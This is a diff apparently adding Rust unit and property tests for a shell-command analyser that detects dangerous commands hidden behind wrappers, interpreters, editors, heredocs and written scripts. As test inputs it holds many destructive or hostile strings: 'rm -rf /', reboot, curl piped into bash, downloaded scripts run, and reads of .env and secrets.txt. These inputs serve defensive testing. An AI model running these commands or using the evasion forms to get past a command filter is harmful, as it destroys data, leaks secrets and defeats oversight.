@@ -275,7 +275,7 @@ fn wrappers_without_a_command_stay() {
     cmd("env -i", &["env", "-i"]);
     cmd("env FOO=1", &["env", "FOO=1"]);
     cmd("sudo -v", &["sudo", "-v"]);
-    cmd("su", &["su"]);
+    cmd("su", &["sh"]);
     cmd("command -v rm", &["command", "-v", "rm"]);
     cmd("sudo -e /etc/hosts", &["sudoedit", "/etc/hosts"]);
     let c = cmd("env NODE_ENV=test npm test", &["npm", "test"]);
@@ -760,4 +760,516 @@ proptest! {
         prop_assert_eq!(again.commands.len(), 1);
         prop_assert_eq!(again.commands[0].args(), first.commands[0].args());
     }
+}
+
+#[test]
+fn dollar_zero_of_sh_c() {
+    cmd("sh -c 'rm -rf \"$0\"' /", &["rm", "-rf", "/"]);
+    let s = an("rm -rf \"$0\"");
+    assert!(s.commands[0].argv[2].dynamic);
+}
+
+#[test]
+fn lookups_feed_command_words() {
+    cmd("$(which rm) -rf /", &["rm", "-rf", "/"]);
+    cmd("\"$(command -v rm)\" -rf /", &["rm", "-rf", "/"]);
+}
+
+#[test]
+fn scripts_written_then_run() {
+    let c = cmd("echo 'rm -rf /' > x.sh && bash x.sh", &["rm", "-rf", "/"]);
+    assert_eq!(c.nested_in, vec!["bash x.sh"]);
+    cmd(
+        "printf 'reboot\\n' > a.sh; chmod +x a.sh; ./a.sh",
+        &["reboot"],
+    );
+    cmd(
+        "cat > s.sh <<'EOF'\nrm -rf ~\nEOF\nsh s.sh",
+        &["rm", "-rf", "/home/u"],
+    );
+    cmd(
+        "echo 'import shutil; shutil.rmtree(\"/\")' > f.py; python3 f.py",
+        &["rm", "-r", "-f", "/"],
+    );
+    cmd(
+        "printf '#!/usr/bin/env python3\\nimport os\\nos.system(\"reboot\")\\n' > t; ./t",
+        &["reboot"],
+    );
+    cmd("echo reboot > r.sh; source r.sh", &["reboot"]);
+    cmd("echo 'rm -rf /' | tee x.sh; bash x.sh", &["rm", "-rf", "/"]);
+    cmd(
+        "echo 'ls' > x.sh; echo 'reboot' >> x.sh; bash x.sh",
+        &["reboot"],
+    );
+    cmd("cd d && echo reboot > r.sh && bash r.sh", &["reboot"]);
+    // A file written with unknown content is not invented.
+    let s = an("curl -s x > i.sh; bash i.sh");
+    assert!(s.commands.iter().any(|c| c.args() == vec!["bash", "i.sh"]));
+}
+
+#[test]
+fn more_wrappers() {
+    let cases: &[(&str, &str)] = &[
+        ("unbuffer rm -rf /", "unbuffer"),
+        ("fakeroot -- rm -rf /", "fakeroot"),
+        ("eatmydata rm -rf /", "eatmydata"),
+        ("proxychains4 -q rm -rf /", "proxychains4"),
+        ("torsocks rm -rf /", "torsocks"),
+        ("caffeinate -i rm -rf /", "caffeinate"),
+        ("xvfb-run -a rm -rf /", "xvfb-run"),
+        ("systemd-run --user -p X=1 rm -rf /", "systemd-run"),
+        ("pkexec --user root rm -rf /", "pkexec"),
+        ("gosu root rm -rf /", "gosu"),
+        ("chrt -f 10 rm -rf /", "chrt"),
+        ("taskset -c 0 rm -rf /", "taskset"),
+        ("strace -f -o /tmp/t rm -rf /", "strace"),
+        ("nsenter -t 1 -m rm -rf /", "nsenter"),
+        ("sshpass -p pw rm -rf /", "sshpass"),
+        ("runuser -u root -- rm -rf /", "runuser"),
+    ];
+    for (s, w) in cases {
+        let c = cmd(s, &["rm", "-rf", "/"]);
+        assert_eq!(c.wrappers.last().map(String::as_str), Some(*w), "{s}");
+    }
+    let c = cmd("sg wheel -c 'rm -rf /'", &["rm", "-rf", "/"]);
+    assert_eq!(c.wrappers, vec!["sg"]);
+    cmd("runuser -l root -c 'reboot'", &["reboot"]);
+    cmd("chrt -p 1234", &["chrt", "-p", "1234"]);
+}
+
+#[test]
+fn editors_running_commands() {
+    let c = cmd("vim -c '!rm -rf /' x", &["rm", "-rf", "/"]);
+    assert_eq!(c.nested_in, vec!["vim -c"]);
+    cmd("vi +':silent !reboot' +q", &["reboot"]);
+    cmd("nvim --cmd 'call system(\"reboot\")'", &["reboot"]);
+    assert_eq!(argvs("vim notes.md"), vec![vec!["vim", "notes.md"]]);
+}
+
+#[test]
+fn interpreter_aliases_and_imports() {
+    cmd(
+        "python3 -c \"__import__('os').system('reboot')\"",
+        &["reboot"],
+    );
+    cmd(
+        "python3 -c 'import os as o; o.system(\"reboot\")'",
+        &["reboot"],
+    );
+    cmd(
+        "python3 -c 'from shutil import rmtree as r; r(\"/\")'",
+        &["rm", "-r", "-f", "/"],
+    );
+    cmd(
+        "python3 -c 'import os; os.system(\"r\" + \"m -rf /\")'",
+        &["rm", "-rf", "/"],
+    );
+    cmd(
+        "python3 -c \"exec('import os; os.system(\\\"reboot\\\")')\"",
+        &["reboot"],
+    );
+    cmd(
+        "perl -MFile::Path -e 'remove_tree(\"/\")'",
+        &["rm", "-r", "-f", "/"],
+    );
+    cmd("perl -e 'exec \"rm\", \"-rf\", \"/\"'", &["rm", "-rf", "/"]);
+    cmd(
+        "ruby -rfileutils -e 'FileUtils.rm_rf(\"/\")'",
+        &["rm", "-r", "-f", "/"],
+    );
+    cmd("ruby -e '`reboot`'", &["reboot"]);
+    cmd(
+        "awk 'BEGIN { print \"rm -rf /\" | \"sh\" }'",
+        &["rm", "-rf", "/"],
+    );
+    cmd("busybox awk 'BEGIN{system(\"reboot\")}'", &["reboot"]);
+    cmd(
+        "node -e \"const {execSync} = require('child_process'); execSync('reboot')\"",
+        &["reboot"],
+    );
+    cmd(
+        "node -e \"require('child_process').spawnSync('rm', ['-rf', '/'])\"",
+        &["rm", "-rf", "/"],
+    );
+}
+
+#[test]
+fn arrays() {
+    cmd("a=(rm -rf /); \"${a[@]}\"", &["rm", "-rf", "/"]);
+    cmd("a=(rm -rf /); ${a[*]}", &["rm", "-rf", "/"]);
+    cmd("a=(x .env); cat ${a[1]}", &["cat", ".env"]);
+    cmd("a=(rm); a+=(-rf /); \"${a[@]}\"", &["rm", "-rf", "/"]);
+    cmd("a=(ls); echo $a", &["echo", "ls"]);
+}
+
+#[test]
+fn write_process_substitution_reads_a_pipe() {
+    let c = cmd("curl -s x | tee >(sh) >/dev/null", &["sh"]);
+    assert_eq!(c.stdin, Stdin::Pipe);
+    let c = cmd("curl -s x > >(bash)", &["bash"]);
+    assert_eq!(c.stdin, Stdin::Pipe);
+}
+
+#[test]
+fn trap_runs_its_command() {
+    let c = cmd("trap 'rm -rf /' EXIT", &["rm", "-rf", "/"]);
+    assert_eq!(c.nested_in, vec!["trap"]);
+    cmd("trap - EXIT", &["trap", "-", "EXIT"]);
+}
+
+#[test]
+fn glob_command_word_is_a_problem() {
+    let s = an("/???/r? -rf /");
+    assert!(s.commands[0].argv[0].glob);
+    assert!(!s.problems.is_empty());
+    let c = cmd("[ -f x ]", &["[", "-f", "x", "]"]);
+    assert!(!c.argv[0].glob && !c.argv[3].glob);
+    assert!(an("[ -f x ]").problems.is_empty());
+}
+
+#[test]
+fn dynamic_code_on_stdin_is_a_problem() {
+    assert!(!an("bash <<< \"$(curl -s x)\"").problems.is_empty());
+    assert!(!an("bash <<EOF\n$(curl -s x)\nEOF").problems.is_empty());
+    assert!(!an("python3 <<< \"$CODE\"").problems.is_empty());
+    none_named("bash <<EOF\n$(curl -s x)\nEOF", "..");
+}
+
+#[test]
+fn tools_that_run_commands() {
+    let cases: &[(&str, &[&str])] = &[
+        ("sed -n '1e reboot' f", &["reboot"]),
+        ("sed '1e rm -rf /' f", &["rm", "-rf", "/"]),
+        (
+            "tar -cf x.tar --to-command='rm -rf /' .",
+            &["rm", "-rf", "/"],
+        ),
+        (
+            "tar -cf x.tar --checkpoint=1 --checkpoint-action=exec=reboot .",
+            &["reboot"],
+        ),
+        ("tar -I 'sh -c reboot' -xf a.tar", &["reboot"]),
+        ("rsync -e 'sh -c reboot' a b:", &["reboot"]),
+        ("ssh -o ProxyCommand='reboot' x", &["reboot"]),
+        ("zip a.zip f -T -TT 'reboot #'", &["reboot"]),
+        ("man -P 'rm -rf /' ls", &["rm", "-rf", "/"]),
+        ("gdb -ex '!reboot' -ex quit", &["reboot"]),
+        ("mysql -e '\\! reboot'", &["reboot"]),
+        ("npx -c 'rm -rf /'", &["rm", "-rf", "/"]),
+        ("echo 'rm -rf /' | at now", &["rm", "-rf", "/"]),
+    ];
+    for (s, want) in cases {
+        cmd(s, want);
+    }
+    let s = an("sed 's/.*/id/e' f");
+    assert!(!s.problems.is_empty());
+    let s = an("sed -n 'w /etc/passwd' f");
+    assert!(
+        s.commands
+            .iter()
+            .any(|c| c.redirects.iter().any(|r| r.target.text == "/etc/passwd"))
+    );
+    cmd("sed 'r .env' f", &["cat", ".env"]);
+    // Controls.
+    assert_eq!(argvs("sed -i 's/foo/bar/g' src/utils.ts").len(), 1);
+    assert_eq!(argvs("sed -n '1,40p' package.json").len(), 1);
+    assert_eq!(argvs("tar czf out.tgz src").len(), 1);
+    assert_eq!(argvs("rsync -a src/ dst/").len(), 1);
+}
+
+#[test]
+fn find_name_filter_narrows_targets() {
+    let c = cmd(
+        "find . -name '*.pyc' -delete",
+        &["rm", "-r", "-f", "./**/*.pyc"],
+    );
+    assert!(c.argv[3].glob);
+    cmd(
+        "find src/ -iname '*.log' -exec rm {} +",
+        &["rm", "src/**/*.log"],
+    );
+    cmd(
+        "find . -path './build/*' -delete",
+        &["rm", "-r", "-f", "./build/*"],
+    );
+    // Alternatives or negations keep the starting point.
+    cmd(
+        "find . -name a -o -name b -delete",
+        &["rm", "-r", "-f", "."],
+    );
+    cmd("find . ! -name keep -delete", &["rm", "-r", "-f", "."]);
+    cmd("find ~ -type f -delete", &["rm", "-r", "-f", "/home/u"]);
+    cmd("find / -name '*' -delete", &["rm", "-r", "-f", "/"]);
+}
+
+#[test]
+fn line_loops_read_their_files() {
+    let c = cmd("perl -ne print .env", &["cat", ".env"]);
+    assert_eq!(c.nested_in, vec!["perl -e"]);
+    let s = an("perl -pi -e 's/a/b/' src/x.pl");
+    assert!(
+        s.commands
+            .iter()
+            .any(|c| c.args() == vec!["cat", "src/x.pl"])
+    );
+    assert!(
+        s.commands
+            .iter()
+            .any(|c| c.redirects.iter().any(|r| r.target.text == "src/x.pl"))
+    );
+    cmd("ruby -ne 'puts $_' secrets.txt", &["cat", "secrets.txt"]);
+    assert_eq!(
+        argvs("perl -e 'print 1' x").len(),
+        1,
+        "no loop, no input files"
+    );
+}
+
+#[test]
+fn deep_syntax_is_refused_before_parsing() {
+    for (open, close) in [
+        ("(", ")"),
+        ("{ ", "; }"),
+        ("$(", ")"),
+        ("if true; then ", "; fi"),
+    ] {
+        let s = format!("{}ls{}", open.repeat(2000), close.repeat(2000));
+        assert!(
+            an(&s).problems.iter().any(|p| p.contains("nested")),
+            "{open}"
+        );
+    }
+    // Ordinary nesting is fine.
+    assert!(
+        an("if true; then (cd src && { ls; }); fi")
+            .problems
+            .is_empty()
+    );
+}
+
+#[test]
+fn pattern_removal_has_no_blowup() {
+    let s = format!("X={}; echo ${{X%{}b}}", "a".repeat(200), "*a".repeat(40));
+    let c = &an(&s).commands[0];
+    assert_eq!(c.args()[1], "a".repeat(200));
+}
+
+#[test]
+fn functions_cannot_hide_real_commands() {
+    // Wrappers run binaries, not functions.
+    cmd("rm(){ :; }; command rm -rf /", &["rm", "-rf", "/"]);
+    cmd("rm(){ :; }; sudo rm -rf /", &["rm", "-rf", "/"]);
+    cmd(
+        "rm(){ :; }; \\rm -rf / ; /bin/rm -rf ~",
+        &["/bin/rm", "-rf", "/home/u"],
+    );
+    // A conditional or subshell definition may not exist when the call runs.
+    cmd(
+        "if false; then rm(){ :; }; fi; rm -rf /",
+        &["rm", "-rf", "/"],
+    );
+    cmd("(rm(){ :; }); rm -rf /", &["rm", "-rf", "/"]);
+    cmd("rm(){ :; }; unset -f rm; rm -rf /", &["rm", "-rf", "/"]);
+    // An alias may not be expanded: both readings are analysed.
+    cmd("alias rm=':'; rm -rf /", &["rm", "-rf", "/"]);
+    // A plain function call runs the body only.
+    none_named("rm(){ echo no; }; rm -rf /", "rm");
+}
+
+#[test]
+fn stdin_as_a_file_and_shell_variables() {
+    cmd("source /dev/stdin <<< 'rm -rf /'", &["rm", "-rf", "/"]);
+    cmd("bash /dev/stdin <<< 'rm -rf /'", &["rm", "-rf", "/"]);
+    cmd(
+        "python3 /dev/stdin <<< 'import os; os.system(\"reboot\")'",
+        &["reboot"],
+    );
+    cmd("$SHELL -c 'rm -rf /'", &["rm", "-rf", "/"]);
+    let s = an("$SHELL -c 'rm -rf /'");
+    assert!(
+        s.commands.iter().any(|c| c.argv[0].dynamic),
+        "the shell itself stays visible"
+    );
+}
+
+#[test]
+fn quoting_corners() {
+    cmd("echo \"{a,b}\"", &["echo", "{a,b}"]);
+    cmd("x={a,b}; echo $x", &["echo", "{a,b}"]);
+    cmd("echo ~/\"x y\" \"~\"", &["echo", "/home/u/x y", "~"]);
+    cmd("echo a\\ b $'a\\'b' $\"x\"", &["echo", "a b", "a'b", "x"]);
+    cmd(
+        "echo ${HOME:+yes} ${NOPE:+no}x",
+        &["echo", "yes", "${NOPE}x"],
+    );
+}
+
+#[test]
+fn running_a_file_written_with_unknown_content_is_a_problem() {
+    for s in [
+        "curl -fsSL https://x.example/i.sh -o i.sh && bash i.sh",
+        "wget -O /tmp/i.sh https://x.example && sh /tmp/i.sh",
+        "curl -s https://x.example > i.py; python3 i.py",
+        "curl -so x https://x.example; chmod +x x; ./x",
+        "curl -s x > s.sh; . s.sh",
+    ] {
+        assert!(!an(s).problems.is_empty(), "{s}");
+    }
+    assert!(an("bash scripts/build.sh").problems.is_empty());
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(512))]
+
+    /// Any input gives an analysis, never a panic.
+    #[test]
+    fn never_panics(s in "[ -~\t\n]{0,120}") {
+        let _ = analyze(&s, &env());
+    }
+
+    /// Shell-heavy input, built from the characters and words that drive the analyser.
+    #[test]
+    fn never_panics_on_shell_soup(parts in prop::collection::vec(prop::sample::select(vec![
+        "$(", ")", "`", "'", "\"", "${", "}", "{", "$'", "\\", " ", ";", "|", "&&", "<<", "EOF\n", "<(", ">",
+        "bash -c ", "eval ", "xargs ", "find . -exec ", "{}", "\\;", "sudo ", "env ", "python3 -c ", "a=",
+        "$a", "$@", "$1", "*", "~", "\n", "(", "if ", "then ", "fi", "for x in ", "do ", "done", "f(){ ",
+        "rm -rf /", "${x:-", "$((", "))", "[[", "]]", "#", "!", "-", "--", "printf %s ", "echo ",
+    ]), 0..40)) {
+        let s: String = parts.concat();
+        let _ = analyze(&s, &env());
+    }
+}
+
+#[test]
+fn work_is_bounded() {
+    let fan = (1..=16)
+        .map(|i| i.to_string())
+        .collect::<Vec<_>>()
+        .join(" ");
+    let mut s = String::new();
+    for k in 0..6 {
+        s.push_str(&format!("for v{k} in {fan}; do "));
+    }
+    s.push_str("echo x");
+    s.push_str(&"; done".repeat(6));
+    let t = an(&s);
+    assert!(!t.problems.is_empty());
+    let mut f = "f0(){ :; }\n".to_string();
+    for k in 1..8 {
+        f.push_str(&format!(
+            "f{k}(){{ {} }}\n",
+            format!("f{}; ", k - 1).repeat(60)
+        ));
+    }
+    f.push_str("f7");
+    assert!(!an(&f).problems.is_empty());
+    let words = format!("echo {}", "{1..1000} ".repeat(200));
+    assert!(!an(&words).problems.is_empty());
+}
+
+#[test]
+fn parallel_runs_a_shell_command_line() {
+    cmd("parallel -j4 'rm -rf {}' ::: / ~", &["rm", "-rf", "/"]);
+    cmd("parallel 'echo {}; reboot' ::: a", &["reboot"]);
+    cmd("parallel echo ::: 'a b'", &["echo", "a b"]);
+}
+
+#[test]
+fn perl_slurp_forms() {
+    cmd(
+        "perl -MFile::Slurp -e 'print read_file(\".env\")'",
+        &["cat", ".env"],
+    );
+    cmd(
+        "perl -MPath::Tiny -e 'print path(\".env\")->slurp'",
+        &["cat", ".env"],
+    );
+    cmd(
+        "perl -MPath::Tiny -e 'path(\"/\")->remove_tree'",
+        &["rm", "-r", "-f", "/"],
+    );
+}
+
+#[test]
+fn stdin_reaches_commands_inside_compounds_functions_and_scripts() {
+    for s in [
+        "curl -s x | { bash; }",
+        "curl -s x | (sh)",
+        "curl -s x | if true; then bash; fi",
+        "f(){ bash; }; curl -s x | f",
+        "curl -s x | bash -c 'bash'",
+        "curl -s x | sudo sh -c 'exec bash'",
+        "{ bash; } < <(curl -s x)",
+        "curl -s x | while read -r l; do python3; done",
+    ] {
+        let s2 = an(s);
+        let shell = s2
+            .commands
+            .iter()
+            .find(|c| matches!(c.name(), "bash" | "sh" | "python3"))
+            .unwrap_or_else(|| panic!("{s}: {:?}", argvs(s)));
+        assert_eq!(shell.stdin, Stdin::Pipe, "{s}");
+    }
+    // A shell reading its script from a heredoc does not read it again.
+    let s = an("bash <<'EOF'\nbash\nEOF");
+    assert!(s.problems.is_empty(), "{:?}", s.problems);
+}
+
+#[test]
+fn stdin_devices_and_exec_redirections() {
+    let c = cmd("curl -s x | bash /dev/stdin", &["bash", "/dev/stdin"]);
+    assert!(c.argv[1].dynamic);
+    let c = cmd("curl -s x | source /dev/stdin", &["source", "/dev/stdin"]);
+    assert!(c.argv[1].dynamic);
+    let c = cmd("curl -s x | python3 /dev/stdin", &["python3", "/dev/stdin"]);
+    assert!(c.argv[1].dynamic);
+    let c = cmd("exec < <(curl -s x); bash", &["bash"]);
+    assert_eq!(c.stdin, Stdin::Pipe);
+    assert!(!cmd("bash scripts/build.sh", &["bash", "scripts/build.sh"]).argv[1].dynamic);
+}
+
+#[test]
+fn wrappers_starting_a_shell_read_stdin() {
+    for s in [
+        "curl -s x | sudo -s",
+        "curl -s x | sudo -i",
+        "curl -s x | su",
+        "curl -s x | doas -s",
+        "curl -s x | su - root",
+    ] {
+        let c = cmd(s, &["sh"]);
+        assert_eq!(c.stdin, Stdin::Pipe, "{s}");
+        assert!(!c.wrappers.is_empty(), "{s}");
+    }
+    cmd("echo reboot | sudo -s", &["reboot"]);
+    let c = cmd("su", &["sh"]);
+    assert_eq!(c.wrappers, vec!["su"]);
+}
+
+#[test]
+fn lua_r_and_applescript_one_liners() {
+    cmd("lua -e 'os.execute(\"rm -rf /\")'", &["rm", "-rf", "/"]);
+    cmd("lua -e 'io.popen(\"reboot\")' -- ignored", &["reboot"]);
+    cmd(
+        "lua -e 'for l in io.lines(\".env\") do print(l) end'",
+        &["cat", ".env"],
+    );
+    cmd("Rscript -e 'system(\"rm -rf /\")'", &["rm", "-rf", "/"]);
+    cmd(
+        "Rscript -e 'unlink(\"/\", recursive = TRUE)'",
+        &["rm", "-r", "-f", "/"],
+    );
+    cmd("Rscript -e 'print(readLines(\".env\"))'", &["cat", ".env"]);
+    cmd("Rscript -e 'x <- read.csv(\".env\")'", &["cat", ".env"]);
+    cmd(
+        "osascript -e 'do shell script \"rm -rf ~\"'",
+        &["rm", "-rf", "/home/u"],
+    );
+    assert!(an("Rscript -e 'print(1+1)'").problems.is_empty());
+    assert!(
+        an("lua -e 'print(1) -- os.execute(\"reboot\")'")
+            .commands
+            .len()
+            == 1
+    );
 }
